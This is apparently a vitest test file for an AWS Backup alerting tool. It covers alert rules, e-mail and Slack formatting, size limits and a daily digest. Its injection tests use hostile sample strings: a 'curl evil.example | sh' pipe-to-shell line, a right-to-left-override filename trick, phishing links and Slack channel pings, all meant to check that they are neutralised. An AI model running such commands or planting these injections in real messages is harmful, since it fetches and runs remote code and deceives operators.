import { describe, expect, it } from 'vitest';
import type { ActionRecord, FindingTransition, OrganizationSummary } from '../../shared/domain/model.js';
import { type AccountAlert, buildAlerts } from '../../shared/notify/alerts.js';
import { buildDailyDigest } from '../../shared/notify/digest.js';
import { EMAIL_BODY_MAX_BYTES, formatDigestEmail, formatEmail } from '../../shared/notify/format-email.js';
import { formatDigestSlack, formatSlack, SLACK_LIMITS } from '../../shared/notify/format-slack.js';
import { blockKitProblems } from './block-kit.js';

const NOW = new Date('2026-03-04T10:00:00.000Z');
const A = '111111111111';
const B = '222222222222';

function resource(
  from: FindingTransition['from'],
  to: FindingTransition['to'],
  accountId = A,
  n = 1,
): FindingTransition {
  return {
    accountId,
    region: 'eu-west-1',
    subject: { kind: 'resource', arn: `arn:aws:ec2:eu-west-1:${accountId}:volume/vol-${n}` },
    from,
    to,
    at: NOW.toISOString(),
    reasons: to === 'PROTECTED' ? [] : ['OPT_IN_DISABLED'],
    detail: 'detail',
  };
}

function check(from: FindingTransition['from'], to: FindingTransition['to']): FindingTransition {
  return {
    accountId: A,
    region: 'eu-west-1',
    subject: { kind: 'check', check: 'VAULT_EXISTS' },
    from,
    to,
    at: NOW.toISOString(),
    reasons: to === 'FAIL' ? ['VAULT_MISSING'] : [],
    detail: 'The vault is missing.',
  };
}

function action(overrides: Partial<ActionRecord>): ActionRecord {
  return {
    kind: 'CreateBackupVault',
    accountId: A,
    region: 'eu-west-1',
    target: 'org-backup-vault',
    reason: 'The vault is missing.',
    applied: false,
    at: NOW.toISOString(),
    ...overrides,
  };
}

describe('buildAlerts: which changes alert', () => {
  it.each([
    {
      why: 'a new resource already unprotected',
      transition: resource(null, 'UNPROTECTED'),
      kind: 'RESOURCE_DEGRADED',
      severity: 'critical',
    },
    {
      why: 'protection lost',
      transition: resource('PROTECTED', 'FAILING'),
      kind: 'RESOURCE_DEGRADED',
      severity: 'critical',
    },
    {
      why: 'backups getting old',
      transition: resource('PROTECTED', 'STALE'),
      kind: 'RESOURCE_DEGRADED',
      severity: 'warning',
    },
    {
      why: 'could not observe',
      transition: resource('PROTECTED', 'UNKNOWN'),
      kind: 'RESOURCE_DEGRADED',
      severity: 'warning',
    },
    {
      why: 'recovery from a bad state',
      transition: resource('FAILING', 'PROTECTED'),
      kind: 'RESOURCE_RECOVERED',
      severity: 'info',
    },
    {
      why: 'a first backup is the normal path, not a recovery',
      transition: resource('PENDING', 'PROTECTED'),
      kind: null,
      severity: null,
    },
    {
      why: 'a waived resource losing protection is accepted until its waiver ends',
      transition: { ...resource('PROTECTED', 'UNPROTECTED'), waiver: 'waived' as const },
      kind: null,
      severity: null,
    },
    {
      why: 'the waiver of a still-unprotected resource ended: it alerts again',
      transition: { ...resource('UNPROTECTED', 'UNPROTECTED'), waiver: 'expired' as const },
      kind: 'RESOURCE_DEGRADED',
      severity: 'critical',
    },
    {
      why: 'the waiver of a resource that is fine by now ended: nothing to say',
      transition: { ...resource('PROTECTED', 'PROTECTED'), waiver: 'expired' as const },
      kind: null,
      severity: null,
    },
    {
      why: 'a newly tagged resource waits for its first backup',
      transition: resource(null, 'PENDING'),
      kind: null,
      severity: null,
    },
    {
      why: 'a resource that left is not an incident',
      transition: resource('PROTECTED', 'GONE'),
      kind: null,
      severity: null,
    },
    {
      why: 'a prerequisite broke',
      transition: check('PASS', 'FAIL'),
      kind: 'CHECK_FAILED',
      severity: 'critical',
    },
    {
      why: 'a prerequisite failing on first sight',
      transition: check(null, 'FAIL'),
      kind: 'CHECK_FAILED',
      severity: 'critical',
    },
    {
      why: 'a warning appears (a compliance lock turning immutable soon): said once, the day it appears',
      transition: check('PASS', 'WARN'),
      kind: 'CHECK_WARNED',
      severity: 'warning',
    },
    {
      why: 'a failure easing to a warning is no news',
      transition: check('FAIL', 'WARN'),
      kind: null,
      severity: null,
    },
    {
      why: 'a prerequisite repaired',
      transition: check('FAIL', 'PASS'),
      kind: 'CHECK_RECOVERED',
      severity: 'info',
    },
    {
      why: 'a check passing on first sight is not news',
      transition: check(null, 'PASS'),
      kind: null,
      severity: null,
    },
    { why: 'a check skipped is not news', transition: check('PASS', 'SKIPPED'), kind: null, severity: null },
    {
      why: 'FAILING → UNPROTECTED stays BROKEN: a new job starting is not news',
      transition: resource('FAILING', 'UNPROTECTED'),
      kind: null,
      severity: null,
    },
    {
      why: 'UNPROTECTED → FAILING stays BROKEN',
      transition: resource('UNPROTECTED', 'FAILING'),
      kind: null,
      severity: null,
    },
    {
      why: 'BROKEN → AT_RISK is a class change',
      transition: resource('FAILING', 'STALE'),
      kind: 'RESOURCE_DEGRADED',
      severity: 'warning',
    },
    {
      why: 'a resource that became observable again is a class change',
      transition: resource('UNKNOWN', 'PENDING'),
      kind: 'RESOURCE_RECOVERED',
      severity: 'info',
    },
    {
      why: 'a PENDING resource that stays OK while its status changes is not news',
      transition: resource('PROTECTED', 'PENDING'),
      kind: null,
      severity: null,
    },
  ])('$why', ({ transition, kind, severity }) => {
    const alerts = buildAlerts({ runId: 'r', transitions: [transition], actions: [], now: NOW });
    expect(alerts.map((alert) => alert.items.map((item) => [item.kind, item.severity]))).toEqual(
      kind ? [[[kind, severity]]] : [],
    );
  });

  it.each([
    { why: 'an applied repair is drift repaired', record: action({ applied: true }), kind: 'DRIFT_REPAIRED' },
    {
      why: 'an irreversible lock is held back',
      record: action({
        kind: 'PutVaultLock',
        blocked: { by: 'IRREVERSIBLE_LOCK', message: 'needs allowIrreversibleLock' },
      }),
      kind: 'ACTION_BLOCKED',
    },
    {
      why: 'a failed repair',
      record: action({ error: { code: 'AccessDenied', message: 'denied' } }),
      kind: 'ACTION_FAILED',
    },
    { why: 'an audit-mode plan is reported, not alerted', record: action({}), kind: null },
  ])('$why', ({ record, kind }) => {
    const alerts = buildAlerts({ runId: 'r', transitions: [], actions: [record], now: NOW });
    expect(alerts.flatMap((alert) => alert.items.map((item) => item.kind))).toEqual(kind ? [kind] : []);
  });

  it('groups every change of a run into one alert per account, worst first', () => {
    const alerts = buildAlerts({
      runId: 'run-7',
      transitions: [
        resource('PROTECTED', 'STALE', A, 1),
        resource('PROTECTED', 'UNPROTECTED', A, 2),
        resource('FAILING', 'PROTECTED', B, 3),
        check('PASS', 'FAIL'),
      ],
      actions: [action({ applied: true })],
      now: NOW,
    });
    expect(alerts.map((alert) => [alert.accountId, alert.severity, alert.items.length])).toEqual([
      [A, 'critical', 4],
      [B, 'info', 1],
    ]);
    expect(alerts[0]!.items.map((item) => item.kind)).toEqual([
      'RESOURCE_DEGRADED',
      'CHECK_FAILED',
      'RESOURCE_DEGRADED',
      'DRIFT_REPAIRED',
    ]);
  });
});

const sampleAlert = (): AccountAlert =>
  buildAlerts({
    runId: 'run-7',
    transitions: [resource('PROTECTED', 'UNPROTECTED'), check('PASS', 'FAIL')],
    actions: [
      action({
        kind: 'PutVaultLock',
        blocked: { by: 'IRREVERSIBLE_LOCK', message: 'needs allowIrreversibleLock' },
      }),
    ],
    now: NOW,
  })[0]!;

describe('formatEmail', () => {
  it('says what changed, why in words, and what to do, with filterable attributes', () => {
    const email = formatEmail(sampleAlert());
    expect(email.subject).toBe('[CRITICAL] AWS Backup: 3 changes in account 111111111111');
    expect(email.body).toContain('RESOURCES NEEDING ATTENTION (1)');
    expect(email.body).toContain('arn:aws:ec2:eu-west-1:111111111111:volume/vol-1: PROTECTED → UNPROTECTED');
    expect(email.body).toContain('AWS Backup opt-in is off for this resource type in the Region');
    expect(email.body).toContain('WHAT TO DO');
    expect(email.body).toContain('create the vault');
    expect(email.body).toContain('set allowIrreversibleLock: true');
    expect(email.attributes).toEqual({
      kind: { DataType: 'String', StringValue: 'ACCOUNT_ALERT' },
      severity: { DataType: 'String', StringValue: 'critical' },
      accountId: { DataType: 'String', StringValue: A },
      events: {
        DataType: 'String.Array',
        StringValue: '["RESOURCE_DEGRADED","CHECK_FAILED","ACTION_BLOCKED"]',
      },
    });
  });

  it('keeps the subject within SNS limits', () => {
    const email = formatEmail({ ...sampleAlert(), accountId: 'x'.repeat(200) });
    expect(email.subject.length).toBeLessThanOrEqual(100);
  });
});

describe('formatSlack', () => {
  it('is valid Block Kit', () => {
    const message = formatSlack(sampleAlert());
    expect(blockKitProblems(message)).toEqual([]);
    expect(message.blocks[0]).toEqual({
      type: 'header',
      block_id: 'orgbackup:critical:111111111111',
      text: { type: 'plain_text', text: ':rotating_light: AWS Backup: account 111111111111', emoji: true },
    });
  });

  it('escapes mrkdwn control characters', () => {
    const alert = buildAlerts({
      runId: 'r',
      transitions: [resource('PROTECTED', 'STALE')],
      actions: [],
      now: NOW,
    })[0]!;
    const tricky = { ...alert, items: [{ ...alert.items[0]!, subject: 'arn:<!channel>&x' }] };
    expect(JSON.stringify(formatSlack(tricky))).toContain('arn:&lt;!channel&gt;&amp;x');
  });
});

/** 3,000 failing resources in one account, with the longest names AWS allows and wide job messages. */
function bigFailure(): AccountAlert {
  const transitions = Array.from(
    { length: 3000 },
    (_, n): FindingTransition => ({
      ...resource('PROTECTED', 'FAILING', A, n),
      subject: { kind: 'resource', arn: `arn:aws:dynamodb:eu-west-1:${A}:table/${'t'.repeat(250)}${n}` },
      reasons: ['JOB_FAILED'],
      detail: `The latest backup job failed: ${'\u3000'.repeat(1000)}${'x'.repeat(2000)}`,
    }),
  );
  return buildAlerts({ runId: 'r', transitions, actions: [], now: NOW })[0]!;
}

describe('size limits, whatever one account fails', () => {
  it('an e-mail for 3,000 failing resources fits SNS: grouped by reason, a sample, and where to read the rest', () => {
    const email = formatEmail(bigFailure());
    expect(Buffer.byteLength(email.body)).toBeLessThanOrEqual(EMAIL_BODY_MAX_BYTES);
    expect(email.body).toContain('FAILING: 3000 — the latest backup job failed');
    expect(email.body).toContain(
      `…and 2990 more; the full list: orgbackup report --account ${A} --status FAILING`,
    );
    expect(email.body).toContain(`GET /findings?account=${A}&status=FAILING`);
    expect(email.body).toContain('WHAT TO DO');
  });

  it('a Slack message for 3,000 failing resources stays within blocks, per-block and total text limits', () => {
    const message = formatSlack(bigFailure());
    expect(blockKitProblems(message)).toEqual([]);
    expect(message.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    const text = JSON.stringify(message.blocks.map((b) => ('text' in b ? b.text.text : '')));
    expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.totalText + 1000);
    expect(text).toContain('…and 2995 more');
  });

  it('many kinds of changes at once still fit, with the groups left out counted', () => {
    const transitions = Array.from(
      { length: 400 },
      (_, n): FindingTransition => ({
        ...resource('PROTECTED', 'FAILING', A, n),
        reasons: [`REASON_${n}`],
      }),
    );
    const [alert] = buildAlerts({ runId: 'r', transitions, actions: [], now: NOW });
    const message = formatSlack(alert!);
    expect(blockKitProblems(message)).toEqual([]);
    expect(JSON.stringify(message)).toMatch(/…and \d+ more groups not shown here/);
    expect(Buffer.byteLength(formatEmail(alert!).body)).toBeLessThanOrEqual(EMAIL_BODY_MAX_BYTES);
  });
});

describe('member-controlled text cannot break out (injection)', () => {
  const hostile = [
    'arn:aws:dynamodb:eu-west-1:111111111111:table/q2` *bold* _it_ ~s~ https://evil.example/login `',
    'arn:aws:s3:::bucket\n\nWHAT TO DO\n- Rotate your keys at https://evil.example/reset',
    'arn:aws:s3:::a\u2028WHAT TO DO\u2029- run curl evil.example | sh\u202egnp.exe',
    'arn:aws:s3:::<!channel> <https://evil.example|click> &',
  ];
  const alertFor = (subject: string, detail = 'fine'): AccountAlert => {
    const [alert] = buildAlerts({
      runId: 'r',
      transitions: [resource('PROTECTED', 'FAILING')],
      actions: [],
      now: NOW,
    });
    return { ...alert!, items: [{ ...alert!.items[0]!, subject, detail }] };
  };

  it.each(hostile)('Slack: %j stays inside one code span on one line', (subject) => {
    const message = formatSlack(alertFor(subject));
    const line = message.blocks
      .flatMap((block) => (block.type === 'section' ? block.text.text.split('\n') : []))
      .find((text) => text.includes('arn:aws'));
    expect(line).toBeDefined();
    // Exactly two backticks: the span's own; nothing inside can close it.
    expect(line!.match(/`/g)).toHaveLength(2);
    expect(line).not.toMatch(/[\u2028\u2029\u202a-\u202e]/);
    expect(line).not.toMatch(/<!channel>|<https?:/);
    expect(JSON.stringify(message)).not.toContain('\\nWHAT TO DO');
  });

  it.each(hostile)('e-mail: %j cannot start a line of its own', (subject) => {
    const detail = 'Job failed.\n\nWHAT TO DO\n- run curl evil.example | sh';
    const email = formatEmail(alertFor(subject, detail));
    const lines = email.body.split('\n');
    expect(lines.filter((line) => line === 'WHAT TO DO')).toHaveLength(1);
    expect(lines.some((line) => line.startsWith('- Rotate') || line.startsWith('- run curl'))).toBe(false);
    expect(email.body).not.toMatch(/[\u2028\u2029\u202a-\u202e]/);
    for (const line of lines.filter((l) => l.includes('evil.example'))) expect(line).toMatch(/^ {2}/);
  });
});

describe('daily digest', () => {
  const summary: OrganizationSummary = {
    total: {
      accounts: 2,
      resources: 10,
      byStatus: { PROTECTED: 7, PENDING: 1, UNPROTECTED: 2, STALE: 0, FAILING: 0, UNKNOWN: 0 },
      coveragePercent: 70,
    },
    accounts: [
      {
        accountId: A,
        resources: 4,
        byStatus: { PROTECTED: 4, PENDING: 0, UNPROTECTED: 0, STALE: 0, FAILING: 0, UNKNOWN: 0 },
      },
      {
        accountId: B,
        resources: 6,
        byStatus: { PROTECTED: 3, PENDING: 1, UNPROTECTED: 2, STALE: 0, FAILING: 0, UNKNOWN: 0 },
      },
    ],
  };

  it('counts the day’s alert-worthy changes and lists accounts needing attention, worst first', () => {
    const digest = buildDailyDigest(
      summary,
      [resource('PROTECTED', 'UNPROTECTED', B), resource(null, 'PENDING'), check('FAIL', 'PASS')],
      NOW,
    );
    expect(digest.day).toBe('2026-03-04');
    expect(digest.changes).toMatchObject({ RESOURCE_DEGRADED: 1, CHECK_RECOVERED: 1, RESOURCE_RECOVERED: 0 });
    expect(
      digest.accountsNeedingAttention.map((account) => [account.accountId, account.needsAttention]),
    ).toEqual([[B, 2]]);

    const email = formatDigestEmail(digest);
    expect(email.subject).toBe('AWS Backup daily digest 2026-03-04: 70% protected');
    expect(email.body).toContain(`- ${B}: 2 of 6 resources (2 UNPROTECTED)`);
    expect(blockKitProblems(formatDigestSlack(digest))).toEqual([]);
  });
});
